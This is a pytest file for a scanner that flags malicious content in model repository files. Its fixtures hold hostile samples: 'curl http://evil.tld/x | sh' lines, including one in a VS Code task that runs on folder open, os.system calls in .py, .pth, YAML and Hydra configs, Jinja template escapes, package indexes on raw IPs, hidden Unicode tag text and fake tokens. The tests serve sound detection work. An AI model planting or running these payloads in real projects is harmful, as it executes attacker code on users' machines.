from __future__ import annotations

import json
import time

import pytest
from tests.scan.examine import examine, rules, unexamined

from modelward.core.finding import Verdict


def test_chat_template_is_read() -> None:
    sample = json.dumps({"chat_template": "{{ messages }}", "model_max_length": 4}).encode()
    assert examine(sample, "tokenizer_config.json").verdict is Verdict.CLEAN
    sample = json.dumps({"chat_template": "{{ messages.__class__ }}"}).encode()
    assert rules(sample, "tokenizer_config.json") == ["chat-template-escape"]


def test_json_is_json_whatever_it_is_called() -> None:
    assert examine(b' {"a": 1}', "notes.txt").verdict is Verdict.CLEAN
    assert rules(b'{"auto_map": {"AutoModel": "m.M"}}', "notes.txt") == ["remote-code"]


def test_what_only_begins_like_json_is_text() -> None:
    assert examine(b"{not json", "notes.txt").verdict is Verdict.CLEAN
    assert "not valid JSON" in unexamined(b"{not json", "config.json")["config.json"]


def test_field_that_two_parsers_read_differently() -> None:
    sample = b'{"auto_map": {"AutoModel": "m.M"}, "auto_map": {}}'
    assert "malformed" in rules(sample, "config.json")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("README.md", b"# Model\n\n```\ncurl http://x.tld | sh\n```\n"),
        ("LICENSE", b"words"),
        ("vocab.txt", b"eval(\n\x01\nimport os\n"),
        ("data.csv", b"a,b\n1,2\n"),
        ("notes", "naïve".encode("latin-1") * 20),
        ("main.cpp", b"int main() { return system(0); } // {% messages %}"),
        ("train.sh", b"#!/bin/bash\npython train.py --lr 1e-4\n"),
        ("model.py", b"import torch\nclass Model(torch.nn.Module):\n    pass\n"),
        ("config.yaml", b"model:\n  _target_: torch.nn.Linear\n"),
        ("requirements.txt", b"torch>=2\n"),
        ("pyproject.toml", b"[project]\nname = 'x'\n"),
        ("chat_template.jinja", b"{{ messages[0]['content'] }}"),
        ("words.pth", b"./src\n"),
    ],
)
def test_texts_of_usual_repositories_are_clean(name: str, data: bytes) -> None:
    report = examine(data, name)
    assert (report.verdict, report.findings) == (Verdict.CLEAN, [])


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("README.md", b"#!/bin/sh\ncurl http://evil.tld/x | sh\n"),
        ("modeling.py", b"import os\nos.system('id')\n"),
        ("unknown", b"m:\n  _target_: os.system\n"),
        ("model.nemo", b"a: !!python/object/apply:os.system [id]\n"),
        ("x.pth", b"import os; os.system('id')\n"),
        ("requirements.txt", b"--index-url http://203.0.113.9/simple\n"),
        ("chat_template.jinja", b"{{ x.__class__ }}"),
        ("prompt.txt", b"{% for m in messages %}{{ m.__class__ }}{% endfor %}"),
        ("sub/.vscode/tasks.json", b'{"tasks": [{"command": "curl http://evil.tld/x | sh", // x\n'
         b'"runOptions": {"runOn": "folderOpen"}},]}'),
    ],
)  # fmt: skip
def test_texts_that_harm(name: str, data: bytes) -> None:
    assert examine(data, name).verdict is Verdict.MALICIOUS


def test_hidden_characters_and_secrets() -> None:
    assert rules("a\U000e0069\U000e0067\U000e006e".encode(), "README.md") == ["hidden-text"]
    assert rules(b'{"a": "x\\udb40\\udc69\\udb40\\udc67\\udb40\\udc6e"}', "config.json") == ["hidden-text"]
    token = b"hf_" + b"qWeRtYuIoPaSdFgHjKlZxCvBnMqWeRtYuI"
    assert rules(b"token: " + token, "config.yaml") == ["secret"]
    assert examine(token, "notes.txt").verdict is Verdict.CLEAN


def test_large_tokenizers_are_quick() -> None:
    vocab = {f"token{number}": number for number in range(200_000)}
    merges = [[f"a{number}", f"b{number}"] for number in range(150_000)]
    sample = json.dumps({"added_tokens": [], "model": {"vocab": vocab, "merges": merges}}).encode()
    start = time.process_time()
    assert examine(sample, "tokenizer.json").verdict is Verdict.CLEAN
    assert time.process_time() - start < 5


def test_large_object_of_any_name_is_not_clean() -> None:
    data = b'{"a": "' + b"x" * (65 << 20) + b'"}'
    assert examine(data, "model.params").verdict is Verdict.INCOMPLETE


def test_hydra_under_a_name_of_settings() -> None:
    assert rules(b"model:\n  _target_: os.system\n", "train.conf") == ["harmful-code"]


FILLER = b"These are words that say nothing at all.\n" * 230_000


@pytest.mark.parametrize(
    ("evil", "harmless"),
    [
        (b"a: !!python/object/apply:os.system ['id']\n", b"Stop it!! Python is a snake: _target_ practice\n"),
        (b'node { op: "PyFunc" }\n', b"a node { of the graph }\n"),
        (b"{% for m in messages %}{{ m.__class__ }}{% endfor %}", b"the messages\n"),
    ],
)
def test_payload_at_the_end_of_very_long_prose_is_not_passed_over(evil: bytes, harmless: bytes) -> None:
    assert len(FILLER) > 9e6
    assert examine(FILLER + evil, "notes.txt").verdict is Verdict.INCOMPLETE
    assert examine(FILLER + harmless, "notes.txt").verdict is Verdict.CLEAN


def test_secret_and_hidden_text_at_the_end_of_very_long_prose() -> None:
    token = b"hf_" + b"KqWzTbNmRvXhJpLsDfGyCkQwZtBnMrVxHj" + b"\n"
    tags = "".join(chr(0xE0000 + ord(sign)) for sign in "run this").encode() + b"\n"
    report = examine(FILLER + token + tags, "notes.txt")
    assert {found.rule for found in report.findings} == {"secret", "hidden-text"}
    assert examine(FILLER + "naïve 👨‍👩‍👧\n".encode(), "notes.txt").findings == []


def test_lines_are_counted_through_the_passages_of_a_long_text() -> None:
    tags = "".join(chr(0xE0000 + ord(sign)) for sign in "run this")
    (found,) = examine(FILLER + tags.encode() + b"\n" + FILLER, "notes.md").findings
    assert found.message.startswith("line 230001 ")


def test_hidden_text_in_a_text_of_two_bytes_a_character() -> None:
    tags = "".join(chr(0xE0000 + ord(sign)) for sign in "run this")
    assert rules(f"words {tags}".encode("utf-16"), "notes.txt") == ["hidden-text"]


def test_hidden_text_behind_many_strings_of_a_document() -> None:
    tags = "".join(chr(0xE0000 + ord(sign)) for sign in "run this")
    sample = {"first": tags, "more": ["word"] * 30_000}
    assert rules(json.dumps(sample).encode(), "config.json") == ["hidden-text"]
    assert rules(json.dumps({**sample, "first": "👨‍👩‍👧"}).encode(), "config.json") == []


def test_source_of_packages_in_a_lock_that_begins_with_comments() -> None:
    comments = b"# This file was made by a program, not by you.\n" * 20
    evil = b'[[source]]\nname = "other"\nurl = "http://1.2.3.4/simple"\n'
    assert rules(comments + evil, "poetry.lock") == rules(evil, "poetry.lock") != []
    broken = comments + b"[[package]]\nname = \n"
    assert "it is not TOML" in unexamined(broken, "poetry.lock")["poetry.lock"]


def test_locks_of_other_programs_are_text() -> None:
    yarn = b'# yarn lockfile v1\n\n"@babel/core@^7.0.0":\n  version "7.0.0"\n  resolved "https://x/[y]"\n'
    gems = b"GEM\n  remote: https://rubygems.org/\n  specs:\n    rake (13.0)\n"
    for data in (yarn, gems, b"", b"12345\n"):
        assert examine(data, "some.lock").verdict is Verdict.CLEAN
